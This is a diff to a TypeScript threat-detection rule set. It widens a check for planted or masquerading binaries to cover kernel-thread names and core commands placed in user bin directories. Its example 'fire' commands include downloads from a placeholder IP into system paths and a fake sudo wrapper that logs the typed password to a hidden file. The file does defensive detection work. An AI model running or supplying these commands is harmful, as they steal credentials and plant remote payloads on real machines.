@@ -36,11 +36,15 @@ const HARDENING_OFF = /^(kernel\.randomize_va_space|kernel\.yama\.ptrace_scope|k
 const SYSTEM_BIN_DIR = /^\/(?:usr\/(?:local\/)?)?s?bin\/|^\/usr\/libexec\//;
 /** Commands users type without thinking, whose replacement sees their arguments, output or passwords. */
 const CORE_COMMANDS = new Set(['ls', 'ps', 'top', 'htop', 'netstat', 'ss', 'lsof', 'who', 'w', 'last', 'id', 'whoami', 'sudo', 'su', 'ssh', 'sshd', 'scp', 'login', 'passwd', 'bash', 'sh', 'dash', 'zsh', 'cat', 'find', 'grep', 'crontab', 'systemctl', 'kill', 'pkill', 'ip', 'ifconfig', 'iptables', 'mount']);
-/** A path in a system binary directory that is hidden or named like a core command. */
+/** Kernel threads' names, which a process list shows in brackets and nobody questions: miners and implants borrow them. */
+const KERNEL_THREAD = /^(?:kworker|kthreadd|ksoftirqd|kswapd|kdevtmpfs|kdmflush|kblockd|khugepaged|kauditd|jbd2|rcu_|migration|watchdogd?$)/;
+/** The user's own bin directories, which come before the system's in PATH. */
+const USER_BIN_DIR = /^~\/(?:\.local\/)?bin\//;
+/** A path in a system binary directory that is hidden or named like a core command or a kernel thread; a core command's name ahead of it in PATH. */
 function plantedBinary(path: string): boolean {
-  if (!SYSTEM_BIN_DIR.test(path)) return false;
   const name = path.slice(path.lastIndexOf('/') + 1);
-  return name.startsWith('.') || CORE_COMMANDS.has(name);
+  if (SYSTEM_BIN_DIR.test(path)) return name.startsWith('.') || CORE_COMMANDS.has(name) || KERNEL_THREAD.test(name);
+  return USER_BIN_DIR.test(path) && CORE_COMMANDS.has(name);
 }
 const hiddenName = (p: string) => p.slice(p.lastIndexOf('/') + 1).startsWith('.');
 
@@ -352,7 +356,7 @@ export const RULES: readonly Rule[] = [
       // the real command moved aside, to make room for a stand-in: `mv /bin/ls /bin/ls.bak`
       ...(i.view?.commands ?? []).filter((c) => c.name === 'mv' && operands(c).length >= 2 && operands(c).slice(0, -1).some((p) => plantedBinary(canonicalPath(p)))).map((c) => c.argv.join(' ')),
     ],
-    examples: { fire: ['cp /tmp/x /usr/local/bin/ls', 'mv /tmp/.x /usr/bin/.systemd-helper', 'sudo install -m 755 /dev/shm/s /usr/local/sbin/sudo', 'cat /tmp/.b > /usr/bin/.dbus-check', 'mount -o bind /bin/bash /usr/bin/sudo', 'sudo mv /bin/ls /bin/ls.bak'], quiet: ['sudo mount --bind /srv/data /mnt/data', 'sudo mv /usr/local/bin/mytool /usr/local/bin/mytool.old', 'sudo cp build/mytool /usr/local/bin/', 'sudo install -m 755 ./kubectl /usr/local/bin/kubectl', 'sudo mv ./docker-compose /usr/local/bin/docker-compose', 'cp /usr/bin/ls /tmp/ls-copy', 'sudo ln -sf /usr/bin/python3 /usr/local/bin/python'] },
+    examples: { fire: ['curl -o /usr/local/bin/kworker http://203.0.113.9/k', "printf '#!/bin/sh\\nread -s p; echo $p >> /tmp/.p; /usr/bin/sudo \"$@\"\\n' > ~/.local/bin/sudo", 'wget -O /usr/bin/.x http://203.0.113.9/x', 'cp /tmp/x /usr/local/bin/ls', 'mv /tmp/.x /usr/bin/.systemd-helper', 'sudo install -m 755 /dev/shm/s /usr/local/sbin/sudo', 'cat /tmp/.b > /usr/bin/.dbus-check', 'mount -o bind /bin/bash /usr/bin/sudo', 'sudo mv /bin/ls /bin/ls.bak'], quiet: ['sudo mount --bind /srv/data /mnt/data', 'sudo mv /usr/local/bin/mytool /usr/local/bin/mytool.old', 'sudo cp build/mytool /usr/local/bin/', 'sudo install -m 755 ./kubectl /usr/local/bin/kubectl', 'sudo mv ./docker-compose /usr/local/bin/docker-compose', 'cp /usr/bin/ls /tmp/ls-copy', 'sudo ln -sf /usr/bin/python3 /usr/local/bin/python', 'curl -fsSLo ~/.local/bin/kubectl https://dl.k8s.io/release/v1.31.0/bin/linux/amd64/kubectl', 'ln -s $(which python3) ~/.local/bin/python'] },
   },
   {
     id: 'PX-EVADE-014', name: 'masquerades-process-name', score: 75, tactic: 'defense_evasion', technique: 'T1036.004',
